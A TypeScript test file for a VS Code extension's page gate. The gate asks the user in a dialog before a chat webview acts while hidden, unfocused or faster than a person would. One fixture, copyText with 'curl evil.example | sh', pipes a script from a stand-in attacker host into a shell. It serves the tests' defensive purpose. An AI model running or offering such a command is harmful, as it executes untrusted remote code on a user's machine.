import { expect, it } from 'vitest';
import { createPageGate } from '../../../src/extension/common/pageGate.ts';
import { HARMLESS } from '../../../src/extension/panel/webviews.ts';
import type { PageMessage } from '../../../src/panel/pageMessages.ts';
import { fakeVscode } from '../../support/fakeVscode.ts';
import { manualClock } from '../../support/manualClock.ts';
import { settle } from '../session/fakeTarget.ts';

const copy: PageMessage = { type: 'copyText', text: 'curl evil.example | sh' };
const ask: PageMessage = {
  type: 'ask',
  request: 1,
  conversation: 'one',
  text: 'q',
  parent: null,
  askMode: 'auto',
  zeroRetention: false,
  approvedToken: 'token',
};

function open() {
  const fake = fakeVscode();
  const clock = manualClock();
  /** `focused`: called when VS Code has moved the focus to the page. */
  const place = { visible: true, focused: () => {} };
  const gate = createPageGate<PageMessage>({
    vscode: fake.api,
    isVisible: () => place.visible,
    focus: () => place.focused(),
    clock,
    harmless: HARMLESS,
    title: 'Allow the action that the chat requested?',
  });
  /** Lets both waits for the focus pass. */
  const wait = async () => {
    clock.pass(2000);
    await settle();
    clock.pass(2000);
  };
  return { fake, clock, place, gate, wait };
}

it('the page gate lets a page act without a dialog while it is visible and its window has the focus', () => {
  const { gate, fake } = open();
  expect([gate(copy), gate(ask)]).toEqual([true, true]);
  expect(fake.messages).toEqual([]);
});

it('the page gate asks the user in a dialog before a page acts in a window without the focus', async () => {
  const { gate, fake, wait } = open();
  fake.focusWindow(false);
  const refused = gate(ask);
  await wait();
  expect([await refused, fake.messages]).toEqual([false, ['Allow the action that the chat requested?']]);
  fake.answers.push('Allow');
  const allowed = gate(ask);
  await wait();
  expect(await allowed).toBe(true);
});

it('the page gate lets a page act without a dialog if VS Code notices the focus of its window when it moves the focus', async () => {
  const { gate, fake, clock, place } = open();
  fake.focusWindow(false);
  place.focused = () => fake.focusWindow(true);
  const allowed = gate(ask);
  clock.pass(2000);
  expect([await allowed, fake.messages]).toEqual([true, []]);
});

it('the page gate moves no focus for a page that is hidden or whose window has the focus', async () => {
  const { gate, fake, place } = open();
  place.focused = () => expect.unreachable();
  expect(gate(ask)).toBe(true);
  place.visible = false;
  expect(await gate(ask)).toBe(false);
  expect(fake.messages).toEqual(['Allow the action that the chat requested?']);
});

it('the page gate waits for the focus that a click in the page gives to its window', async () => {
  const { gate, fake, clock } = open();
  fake.focusWindow(false);
  const allowed = gate(copy);
  clock.pass(499);
  fake.focusWindow(true);
  expect([await allowed, fake.messages]).toEqual([true, []]);
});

it('the page gate asks the user in a dialog before a hidden page acts', async () => {
  const { gate, fake, place } = open();
  place.visible = false;
  expect(await gate(copy)).toBe(false);
  expect(fake.messages).toEqual(['Allow the action that the chat requested?']);
});

it('the page gate takes drafts, requests for the state and stops from a page at any time', () => {
  const { gate, fake, place } = open();
  fake.focusWindow(false);
  place.visible = false;
  const messages: PageMessage[] = [
    { type: 'ready' },
    { type: 'draft', conversation: 'one', text: 'q' },
    { type: 'stop', turnId: 'a' },
  ];
  expect(messages.map((message) => gate(message))).toEqual([true, true, true]);
});

it('the page gate asks the user in a dialog before a page does more in 10 seconds than a person does', async () => {
  const { gate, fake, clock } = open();
  for (let count = 0; count < 40; count++) expect(gate(copy)).toBe(true);
  expect(await gate(copy)).toBe(false);
  expect(fake.messages).toEqual(['Allow the action that the chat requested?']);
  clock.pass(10_000);
  expect(gate(copy)).toBe(true);
});

it('the page gate asks the user in a dialog before a page asks more questions than a person does', async () => {
  const { gate, fake, clock } = open();
  for (let count = 0; count < 20; count++) expect(gate(ask)).toBe(true);
  expect(await gate(ask)).toBe(false);
  clock.pass(60_000);
  expect(gate(ask)).toBe(true);
  expect(fake.messages).toHaveLength(1);
});

it('the page gate counts actions again from zero after the user allowed the page to continue', async () => {
  const { gate, fake } = open();
  for (let count = 0; count < 40; count++) expect(gate(copy)).toBe(true);
  fake.answers.push('Allow');
  expect(await gate(copy)).toBe(true);
  expect(gate(copy)).toBe(true);
});

it('the page gate refuses other actions of a page while a dialog about it is open', async () => {
  const { gate, fake, place } = open();
  place.visible = false;
  let close = (_chosen: unknown) => {};
  Object.assign(fake.api.window, { showWarningMessage: () => new Promise((resolve) => (close = resolve)) });
  const first = gate(copy);
  expect(await gate(ask)).toBe(false);
  close('Allow');
  await settle();
  expect(await first).toBe(true);
});
